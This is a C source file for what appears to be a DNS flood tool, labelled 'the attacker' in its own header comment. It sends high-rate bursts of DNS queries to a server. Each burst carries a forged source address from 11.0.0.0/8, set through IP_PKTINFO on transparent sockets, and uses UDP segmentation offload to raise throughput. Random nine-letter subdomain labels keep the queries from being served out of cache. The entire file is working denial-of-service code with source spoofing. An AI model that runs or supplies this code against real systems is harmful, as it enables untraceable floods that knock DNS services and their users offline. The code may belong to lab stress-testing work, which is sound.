/*
 * The attacker. Addresses are forged for each burst by IP_PKTINFO; by UDP_SEGMENT one burst crosses the sender's half of
 * the stack as one packet, and becomes datagrams only at the server's socket: a core sends three times as many.
 */

#define _GNU_SOURCE
#include "flood.h"
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/udp.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>

#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif

enum { SOCKETS = 8, MOST_SEGMENTS = 64, LABEL = 9, HEAD = 12, QUERY = 128, CONTROL = 64, FIRST_PORT = 20001 };

static struct {
  int fds[SOCKETS];
  unsigned turn;
  unsigned length;
  unsigned sources;
  unsigned segments;
  int random;
  struct sockaddr_in server;
  uint8_t octets[MOST_SEGMENTS * QUERY];
} attacker;

unsigned open_attack(const struct plan *plan) {
  const int on = 1, size = 4 << 20;
  for (int i = 0; i < SOCKETS; i++) {
    const struct sockaddr_in own = {.sin_family = AF_INET, .sin_port = htons(FIRST_PORT + i)};
    const int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &on, sizeof on) < 0) die("IP_TRANSPARENT");
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
    if (bind(fd, (const struct sockaddr *)&own, sizeof own) < 0) die("bind");
    attacker.fds[i] = fd;
  }
  attacker.sources = plan->sources;
  attacker.segments = plan->segments > MOST_SEGMENTS ? MOST_SEGMENTS : plan->segments;
  attacker.random = plan->random;
  attacker.server = plan->server;
  char name[256] = "";
  if (plan->random) strcpy(name, "xxxxxxxxx.");
  strncat(name, plan->question, sizeof name - LABEL - 2);
  uint8_t wire[512];
  attacker.length = write_query(wire, name, plan->type);
  if (attacker.length > QUERY) die("the attacker's question is too long");
  for (unsigned i = 0; i < attacker.segments; i++) memcpy(attacker.octets + i * attacker.length, wire, attacker.length);
  return attacker.length;
}

/** An id, and if it is to be, a label that nobody has asked for. */
static void freshen(uint8_t *wire) {
  static const char letters[] = "abcdefghijklmnopqrstuvwxyz234567";
  const uint32_t bits = random32();
  wire[0] = bits >> 8;
  wire[1] = bits;
  if (!attacker.random) return;
  uint64_t label = (uint64_t)random32() << 32 | random32();
  for (int i = 0; i < LABEL; i++, label >>= 5) wire[HEAD + 1 + i] = letters[label & 31];
}

/** 11.0.0.0/8 has 65,536 prefixes to forge. */
static uint32_t forged(void) {
  const uint32_t prefix = random32() % attacker.sources;
  return htonl(11u << 24 | prefix << 8 | (1 + random32() % 254));
}

unsigned attack(void) {
  for (unsigned i = 0; i < attacker.segments; i++) freshen(attacker.octets + i * attacker.length);
  struct iovec at = {attacker.octets, attacker.segments * attacker.length};
  uint8_t control[CONTROL] __attribute__((aligned(8))) = {0};
  struct msghdr message = {.msg_name = &attacker.server,
                           .msg_namelen = sizeof attacker.server,
                           .msg_iov = &at,
                           .msg_iovlen = 1,
                           .msg_control = control,
                           .msg_controllen = CMSG_SPACE(sizeof(struct in_pktinfo)) + CMSG_SPACE(sizeof(uint16_t))};
  struct cmsghdr *part = CMSG_FIRSTHDR(&message);
  part->cmsg_level = IPPROTO_IP;
  part->cmsg_type = IP_PKTINFO;
  part->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
  ((struct in_pktinfo *)CMSG_DATA(part))->ipi_spec_dst.s_addr = forged();
  part = CMSG_NXTHDR(&message, part);
  part->cmsg_level = IPPROTO_UDP;
  part->cmsg_type = UDP_SEGMENT;
  part->cmsg_len = CMSG_LEN(sizeof(uint16_t));
  *(uint16_t *)CMSG_DATA(part) = attacker.length;
  if (sendmsg(attacker.fds[attacker.turn++ % SOCKETS], &message, 0) < 0) {
    if (errno != ENOBUFS && errno != EAGAIN) die("the attack can't be sent");
    return 0;
  }
  return attacker.segments;
}
